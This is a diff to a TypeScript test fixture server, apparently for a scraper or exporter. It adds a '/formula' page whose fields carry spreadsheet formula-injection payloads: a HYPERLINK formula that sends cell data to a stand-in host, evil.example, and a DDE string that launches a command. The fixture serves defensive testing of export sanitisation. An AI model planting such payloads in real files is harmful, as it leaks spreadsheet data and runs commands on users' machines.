@@ -11,6 +11,12 @@ export async function startPages(opts: { slowMs?: number } = {}): Promise<Fixtur
     const path = (req.url ?? '/').split('?')[0]
     hits.set(path, (hits.get(path) ?? 0) + 1)
     const m = /^\/(p|slow)\/(\d+)$/.exec(path)
+    if (path === '/formula') {
+      // A hostile merchant page: every text field starts like a spreadsheet formula.
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
+      res.end('<!doctype html><html lang="en"><head><title>=HYPERLINK("http://evil.example/?"&amp;A1,"Click")</title><meta name="description" content="@SUM(1+1)*cmd|\' /C calc\'!A0"></head><body><h1>-2+3</h1><p>Call +1 212 555 0100</p></body></html>')
+      return
+    }
     if (down.has(path)) { res.writeHead(500, { 'content-type': 'text/html' }); res.end('<title>down</title>'); return }
     if (!m) { res.writeHead(404, { 'content-type': 'text/html' }); res.end('<html><title>missing</title></html>'); return }
     const send = () => {
